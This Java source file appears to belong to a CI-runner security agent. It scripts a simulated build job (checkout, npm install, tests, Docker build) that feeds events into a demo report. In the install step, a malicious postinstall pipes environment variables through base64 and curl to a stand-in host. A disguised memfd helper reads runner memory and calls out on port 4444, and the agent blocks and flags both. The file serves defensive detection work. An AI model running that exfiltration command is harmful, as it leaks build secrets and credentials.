package dev.sallyport.agent.report;

import dev.sallyport.agent.correlation.ProcessNode;
import dev.sallyport.agent.pipeline.EventConsumer;
import dev.sallyport.spi.event.Severity;
import dev.sallyport.spi.runner.JobIdentity;
import java.nio.file.Path;
import java.util.List;

/** A job as they are: a checkout, an install whose script misbehaves, tests, a build. */
final class Demonstration {

  private Demonstration() {}

  static Story tell(EventConsumer... consumers) {
    Story story =
        new Story(
            new JobIdentity(
                "acme/shop",
                "CI",
                "build and test",
                "17604412087",
                2,
                "https://github.com/acme/shop/actions/runs/17604412087",
                "main",
                "9f2c1d7be04a6e6f2b9c55d1e9c7ef31a8b3f0a4",
                "ubuntu-24.04-large"),
            consumers);
    story.send("agent", null, "sallyport.job.started").later(120);
    checkout(story);
    install(story);
    test(story);
    build(story);
    story.later(300).jobEnds("failure");
    return story;
  }

  private static void checkout(Story story) {
    story.inStep(1, "Check out").send("agent", null, "sallyport.step.started").later(15);
    ProcessNode node =
        story.exec(
            null,
            "/opt/runner/externals/node24/bin/node",
            "/opt/runner/externals/node24/bin/node",
            "/home/runner/work/_actions/actions/checkout/v5/dist/index.js");
    ProcessNode git = story.later(210).exec(node, "/usr/bin/git", "git", "version");
    story.exit(git, 6, 0);
    ProcessNode fetch =
        story.exec(
            node,
            "/usr/bin/git",
            "git",
            "-c",
            "protocol.version=2",
            "fetch",
            "--depth=1",
            "https://x-access-token:ghs_16C7e42F292c6912E7710c838347Ae178B4a@github.com/acme/shop",
            "+9f2c1d7:refs/remotes/origin/main");
    ProcessNode remote =
        story.exec(
            fetch,
            "/usr/lib/git-core/git-remote-https",
            "git-remote-https",
            "origin",
            "https://github.com/acme/shop");
    story.asks(remote, "github.com", "A", "140.82.121.4");
    story.asks(remote, "github.com", "AAAA");
    story.greets(remote, "github.com", "140.82.121.4", 443);
    story
        .later(640)
        .connects(remote, "github.com", "140.82.121.4", 443, "allowed", 4_812, 3_214_977);
    story.exit(remote, 12, 0).exit(fetch, 3, 0);
    ProcessNode checkout =
        story.exec(node, "/usr/bin/git", "git", "checkout", "--progress", "--force", "main");
    story.exit(checkout, 180, 0).exit(node, 20, 0);
    story.stepEnds("success");
  }

  private static void install(Story story) {
    story.later(60).inStep(2, "Install dependencies").send("agent", null, "sallyport.step.started");
    ProcessNode shell =
        story.exec(
            null,
            "/usr/bin/bash",
            "/usr/bin/bash",
            "--noprofile",
            "--norc",
            "-eo",
            "pipefail",
            "/home/runner/work/_temp/4f0f7bfa.sh");
    ProcessNode npm = story.exec(shell, "/usr/bin/npm", "npm", "ci");
    ProcessNode node = story.replace(npm, "/usr/bin/node", "node", "/usr/bin/npm", "ci");
    story.asks(node, "registry.npmjs.org", "A", "104.16.27.34", "104.16.26.34");
    story.asks(node, "registry.npmjs.org", "AAAA", "2606:4700::6810:1b22", "2606:4700::6810:1a22");
    story.greets(node, "registry.npmjs.org", "104.16.27.34", 443);
    for (int i = 0; i < 14; i++) {
      story
          .later(150)
          .connects(node, "registry.npmjs.org", "104.16.27.34", 443, "allowed", 2_150, 1_804_221);
    }
    ProcessNode script =
        story.exec(node, "/usr/bin/dash", "sh", "-c", "node ./scripts/postinstall.js");
    ProcessNode post = story.exec(script, "/usr/bin/node", "node", "./scripts/postinstall.js");
    ProcessNode stealer =
        story.exec(
            post,
            "/usr/bin/dash",
            "/bin/sh",
            "-c",
            "env | base64 -w0 | curl -s --data-binary @- https://telemetry-cdn.example/collect");
    ProcessNode env = story.exec(stealer, "/usr/bin/env", "env");
    story.exit(env, 2, 0);
    ProcessNode base64 = story.exec(stealer, "/usr/bin/base64", "base64", "-w0");
    story.exit(base64, 2, 0);
    ProcessNode curl =
        story.exec(
            stealer,
            "/usr/bin/curl",
            "curl",
            "-s",
            "--data-binary",
            "@-",
            "https://telemetry-cdn.example/collect");
    story.asks(curl, "telemetry-cdn.example", "A", "203.0.113.66");
    story.connects(curl, "telemetry-cdn.example", "203.0.113.66", 443, "blocked", 0, 0);
    story.finds(
        curl,
        Severity.ERROR,
        "outbound-call-blocked",
        "curl tried to reach telemetry-cdn.example:443 (203.0.113.66), which no entry allows",
        "curl -s --data-binary @- https://telemetry-cdn.example/collect");
    story.exit(curl, 31, 7).exit(stealer, 1, 7);
    story.remarkable(
        "sallyport.process.executable.memfd", true, "sallyport.process.executable.deleted", true);
    ProcessNode helper = story.exec(post, "/memfd:kworker (deleted)", "[kworker/u8:2]");
    story.finds(
        helper,
        Severity.WARN,
        "runner-memory-read",
        "opened /proc/2114/mem of Runner.Worker for reading");
    story.connects(helper, null, "198.51.100.23", 4444, "blocked", 0, 0);
    story.send(
        "network",
        helper,
        "sallyport.network.raw_socket",
        "sallyport.socket.family",
        "AF_PACKET",
        "sallyport.socket.type",
        "SOCK_RAW",
        "sallyport.socket.protocol",
        "ETH_P_ALL");
    story.killed(helper, 90, 9).exit(post, 5, 0).exit(script, 1, 0);
    story.remarkable(
        "sallyport.process.user.id.before", 1001, "sallyport.process.privileged_exec", true);
    ProcessNode sudo =
        story.execAs(
            0, story.fork(shell), "/usr/bin/sudo", "sudo", "apt-get", "install", "-y", "jq");
    ProcessNode apt =
        story.execAs(0, story.fork(sudo), "/usr/bin/apt-get", "apt-get", "install", "-y", "jq");
    story.asks(apt, "azure.archive.ubuntu.com", "A", "20.106.104.242");
    story
        .later(900)
        .connects(apt, "azure.archive.ubuntu.com", "20.106.104.242", 80, "allowed", 612, 382_104);
    story.exit(apt, 700, 0).exit(sudo, 4, 0).exit(node, 30, 0).exit(shell, 2, 0);
    story.stepEnds("success");
  }

  private static void test(Story story) {
    story.later(40).inStep(3, "Test").send("agent", null, "sallyport.step.started");
    ProcessNode shell =
        story.exec(null, "/usr/bin/bash", "bash", "-e", "/home/runner/work/_temp/91c2.sh");
    ProcessNode node = story.exec(shell, "/usr/bin/node", "node", "--test", "--test-concurrency=4");
    story.send(
        "network",
        node,
        "sallyport.network.listen",
        "network.transport",
        "tcp",
        "network.local.address",
        "127.0.0.1",
        "network.local.port",
        34567);
    for (int i = 0; i < 6; i++) {
      ProcessNode worker =
          story.exec(
              node, "/usr/bin/node", "node", "--test-worker", "test/unit/cart-" + i + ".test.js");
      story.send(
          "network",
          node,
          "sallyport.network.accept",
          "network.transport",
          "tcp",
          "network.local.address",
          "127.0.0.1",
          "network.local.port",
          34567,
          "network.peer.address",
          "127.0.0.1",
          "network.peer.port",
          50_000 + i);
      story.exit(worker, 430 + 35L * i, i == 4 ? 1 : 0);
    }
    story.send(
        "example.filewatch",
        node,
        Severity.WARN,
        "com.example.file.touched",
        "file.path",
        "/home/runner/.npmrc",
        "com.example.file.bytes",
        412);
    story.exit(node, 60, 1).exit(shell, 2, 1);
    story.stepEnds("failure");
  }

  private static void build(Story story) {
    story.later(40).inStep(4, "Build image").send("agent", null, "sallyport.step.started");
    ProcessNode shell =
        story.exec(null, "/usr/bin/bash", "bash", "-e", "/home/runner/work/_temp/aa07.sh");
    ProcessNode make = story.exec(shell, "/usr/bin/make", "make", "-j4", "all");
    for (int i = 0; i < 42; i++) {
      ProcessNode cc =
          story.exec(make, "/usr/bin/gcc", "gcc", "-O2", "-c", "src/unit" + i % 3 + ".c");
      story.exit(cc, 40, 0);
    }
    ProcessNode buildx =
        story.exec(
            shell,
            "/usr/libexec/docker/cli-plugins/docker-buildx",
            "docker-buildx",
            "build",
            "--push",
            "--tag",
            "ghcr.io/acme/shop:9f2c1d7",
            "--label",
            "org.opencontainers.image.title=It's a shop",
            ".");
    story.asks(buildx, "ghcr.io", "A", "140.82.121.34");
    story.greets(buildx, "ghcr.io", "140.82.121.34", 443);
    story
        .later(2200)
        .connects(buildx, "ghcr.io", "140.82.121.34", 443, "allowed", 48_112_930, 20_411);
    story.asks(buildx, "auth.docker.io", "A", "44.208.254.194");
    story.connects(buildx, "auth.docker.io", "44.208.254.194", 443, "allowed", 1_830, 9_904);
    story.exit(buildx, 80, 0).exit(make, 10, 0).exit(shell, 2, 0);
    story.send(
        "agent",
        null,
        Severity.WARN,
        "sallyport.coverage.gap",
        "sallyport.probe",
        "https",
        "sallyport.gap.reason",
        "docker-buildx carries its own TLS library: its requests are not decoded",
        "sallyport.gap.since",
        Story.START);
    story.stepEnds("success");
  }

  /** Files for people to look at: the directory to write to is the first argument. */
  static void main(String[] arguments) {
    ReportModel model = new ReportModel();
    tell(model);
    IO.println(ReportWriter.write(Path.of(arguments[0]), model, List.of()));
  }
}
